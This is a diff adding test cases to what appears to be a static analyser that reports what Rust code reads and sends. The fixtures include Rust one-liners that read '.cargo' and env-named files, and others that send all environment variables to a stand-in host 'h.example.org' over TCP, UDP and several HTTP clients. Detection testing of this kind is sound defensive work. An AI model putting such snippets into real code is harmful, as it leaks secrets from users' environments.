@@ -135,4 +135,23 @@ describe("rust", () => {
       }),
     )
   })
+
+  it.each([
+    ['let s = "a"; std::fs::read(format!("{s}{{x}}.{}", "toml"));', ['2 reads "a{x}.toml"']],
+    ['std::fs::read(concat!(".", stringify!(cargo)));', ['2 reads ".cargo"']],
+    ['std::fs::read(std::env::var("A").ok().or_else(|| std::env::var("B").ok()).unwrap());', ["2 reads ($A | $B)"]],
+    ['std::fs::read(x.map_or("a", |b| "c"));', ['2 reads ("a" | "c")']],
+  ])("knows what it reads: %s", (body, expected) => expect(acts(body)).toEqual(expected))
+
+  const what = "std::env::vars()"
+  it.each([
+    `std::net::TcpStream::connect(("h.example.org", 80)).unwrap().write_all(${what});`,
+    `write!(std::net::TcpStream::connect("h.example.org:80").unwrap(), "{}", ${what});`,
+    `std::net::UdpSocket::bind("0.0.0.0:0").unwrap().send_to(${what}, ("h.example.org", 80));`,
+    `ureq::post("h.example.org:80").set("a", &b).send_string(${what});`,
+    `reqwest::blocking::Client::new().post("h.example.org:80").header("a", b).body(${what}).send();`,
+    `let mut e = curl::easy::Easy::new(); e.url("h.example.org:80"); e.post_fields_copy(${what});`,
+  ])("knows what it sends: %s", (body) =>
+    expect(acts(body).filter((act) => act.includes("sends"))).toEqual([expect.stringMatching(/^2 connects "h.example.org:80" sends /)]),
+  )
 })
